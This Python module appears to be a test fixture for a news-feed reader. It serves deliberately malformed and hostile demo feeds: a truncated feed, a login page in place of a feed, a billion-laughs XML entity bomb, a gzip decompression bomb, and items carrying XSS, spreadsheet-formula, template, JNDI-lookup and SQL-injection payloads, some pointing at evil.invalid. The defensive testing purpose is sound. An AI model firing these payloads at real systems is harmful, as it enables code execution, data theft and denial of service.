"""What misbehaves in the demo market, on purpose: bytes that no reader may trust.

One feed is cut off, one is a login page, one carries markup that wants to run, one expands entities, one does not end.
"""

from __future__ import annotations

import functools
import gzip
from collections.abc import Callable, Mapping
from email.utils import format_datetime

from salestrigger.sources.demo.timeline import day_clock

#: sources that may fail, or give part of what they hold: a run in which nothing else fails has gone well
EXPECTED_FAILURES = frozenset({"demo-broken", "demo-login", "demo-bomb", "demo-flood"})
#: unpacked size of the flood, beyond what any feed may have
FLOOD_BYTES = 24 * 1024 * 1024

_HOSTILE = (
    ("<script>alert('title')</script>Rognhaug Emballasje opens a new hall in Lier", "/a/1", "A plain first sentence."),
    (
        'Rast ASA"><img src=x onerror=alert(1)>',
        "javascript:alert(document.domain)",
        "The link of this item runs script.",
    ),
    ("={cmd|' /C calc'!A0} Kvernsund Mekaniske", "/a/2", '=HYPERLINK("http://evil.invalid";"click")'),
    (
        "Data link",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<iframe src='//evil.invalid'></iframe>",
    ),
    (
        "\u202eCombining \u200bodd\u200d characters\u202c",
        "http://user:secret@hostile.demo.example/a/3",
        "Bidi \u2066controls\u2069.",
    ),
    ("{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.invalid/a}", "/a/4", "'; DROP TABLE events; --"),
    (
        "|pipe| `tick` [link](javascript:alert(1)) | table |",
        "/a/5",
        "<svg onload=alert(2)><style>*{display:none}</style>",
    ),
    ("Dated in 2199", "/a/6", "An item from the far future."),
)


def hostile(day: int) -> bytes:
    """A well-formed feed of items that want to do harm where they are shown."""
    entries = []
    for number, (title, link, body) in enumerate(_HOSTILE):
        stamp = "Tue, 01 Jan 2199 00:00:00 +0000" if "2199" in title else format_datetime(day_clock(day))
        target = link if ":" in link else f"http://hostile.demo.example{link}"
        entries.append(
            f"<item><title><![CDATA[{title}]]></title><link><![CDATA[{target}]]></link><guid>hostile-{number}</guid>"
            f"<pubDate>{stamp}</pubDate><description><![CDATA[{body}]]></description></item>"
        )
    return _rss("Hostile Herald", "".join(entries))


def broken(day: int) -> bytes:
    """A feed with one whole item that stops in the middle of the second, as when a server gives up."""
    stamp = format_datetime(day_clock(day))
    one = "<item><title>Kommunestyret møtes tirsdag</title><guid>broken-1</guid>"
    entries = f"{one}<link>http://broken.demo.example/1</link><pubDate>{stamp}</pubDate></item><item><title>Konkurs i "
    whole = _rss("Avbrutt Avis", entries)
    return whole[: -len(b"</channel></rss>\n")]


def login(_: int) -> bytes:
    """A login page where a feed is expected."""
    return (
        b"<!doctype html><html><head><title>Logg inn</title></head><body><form method=post action=/login>"
        b"<label>E-post <input name=email></label><button>Logg inn</button></form></body></html>"
    )


def bomb(_: int) -> bytes:
    """Entities that expand a billionfold."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "ha">{levels}]>'
    items = "<item><title>&e9;</title></item>"
    return f'{head}<rss version="2.0"><channel><title>Bomb</title>{items}</channel></rss>'.encode()


def flood(_: int) -> bytes:
    """A small gzip body that unpacks to :data:`FLOOD_BYTES`."""
    return _flood()


@functools.cache
def _flood() -> bytes:
    start = b'<?xml version="1.0"?><rss version="2.0"><channel><title>Flood</title><item><title>'
    return gzip.compress(start + b"flood " * (FLOOD_BYTES // 6), compresslevel=9, mtime=0)


def _rss(title: str, entries: str) -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
    return f"{head}<title>{title}</title><link>http://demo.example/</link>{entries}</channel></rss>\n".encode()


#: source id → (media type, content encoding, body of a day)
MISCHIEF: Mapping[str, tuple[str, str, Callable[[int], bytes]]] = {
    "demo-hostile": ("application/rss+xml; charset=utf-8", "", hostile),
    "demo-broken": ("application/rss+xml; charset=utf-8", "", broken),
    "demo-login": ("text/html; charset=utf-8", "", login),
    "demo-bomb": ("application/xml", "", bomb),
    "demo-flood": ("application/rss+xml; charset=utf-8", "gzip", flood),
}
